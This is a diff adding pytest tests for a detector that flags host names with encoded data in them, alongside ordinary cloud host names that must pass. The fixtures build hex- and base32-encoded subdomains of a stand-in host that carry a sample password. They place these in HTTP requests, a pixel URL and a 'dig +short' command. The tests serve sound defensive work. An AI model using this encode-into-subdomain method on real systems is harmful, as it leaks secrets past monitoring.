@@ -1,0 +1,66 @@
+"""Host names that carry data, and those of clouds and people that do not."""
+
+import base64
+import random
+
+import pytest
+
+from headgate.detectors.assess import EmbeddedModel, assess
+
+_RNG = random.Random(16)  # noqa: S311 - the same names each time
+_TEXT = b"password is hunter2 for maria"
+_HEX = _TEXT.hex()
+_BASE32 = base64.b32encode(_TEXT).decode().lower().rstrip("=")
+_ENCODED = [
+    f"{_HEX}.drop.example",
+    f"{_BASE32}.drop.example",
+    f"{_HEX[:16]}.{_HEX[16:32]}.{_HEX[32:]}.t.drop.example",
+    f"{_BASE32[:20]}.{_BASE32[20:]}.drop.example",
+    f"{_RNG.randbytes(24).hex()}.n1.drop.example",
+    f"{base64.b32encode(_RNG.randbytes(30)).decode().lower()}.drop.example",
+    f"{_RNG.randbytes(12).hex()}.{_RNG.randbytes(12).hex()}.drop.example",
+    f"{_HEX}.bucket.amazonaws.com",
+]
+_ORDINARY = [
+    "api.github.com",
+    "europe-west4-docker.pkg.dev",
+    "d111111abcdef8.cloudfront.net",
+    "r3---sn-4g5e6nsz.googlevideo.com",
+    "0123456789abcdef0123456789abcdef.gr7.us-east-1.eks.amazonaws.com",
+    "my-app-git-feature-branch-abc123-team.vercel.app",
+    "myapp.thankfulocean-1a2b3c4d.westeurope.azurecontainerapps.io",
+    "internationalization.example.com",
+    "a1b2c3d4.ngrok-free.app",
+    "o123456.ingest.sentry.io",
+    "xn--80ak6aa92e.example.com",
+    "svc-1.team-2.eu.internal.example.com",
+    "longdescriptivenameofaservice.example.com",
+]
+
+
+@pytest.mark.parametrize("name", _ENCODED, ids=range(len(_ENCODED)))
+def test_a_name_that_carries_data_is_found_wherever_it_is_sent(name: str) -> None:
+    for value in (
+        {"http": {"host": name, "path": "/"}},
+        {"params": {"url": f"https://{name}/pixel.gif?x=1"}},
+        {"command": f"dig +short {name}"},
+    ):
+        found = assess(EmbeddedModel.HOST_NAMES, value)
+        assert found.issues == ("encoded_host_name",), value
+        assert found.risk_score >= 0.6
+
+
+@pytest.mark.parametrize("name", _ORDINARY)
+def test_ordinary_names_pass(name: str) -> None:
+    assert not assess(EmbeddedModel.HOST_NAMES, {"http": {"host": name}, "body": f"see https://{name}/a"}).issues
+
+
+def test_a_name_of_very_many_labels_is_found() -> None:
+    assert assess(EmbeddedModel.HOST_NAMES, {"http": {"host": "a.b.c.d.e.f.g.drop.example"}}).issues == (
+        "long_host_name",
+    )
+
+
+def test_names_of_files_and_modules_are_no_destinations() -> None:
+    text = f"import {_HEX}.core.main; see chunk.{_HEX}.js and {_HEX}.tar.gz"
+    assert not assess(EmbeddedModel.HOST_NAMES, {"body": text}).issues
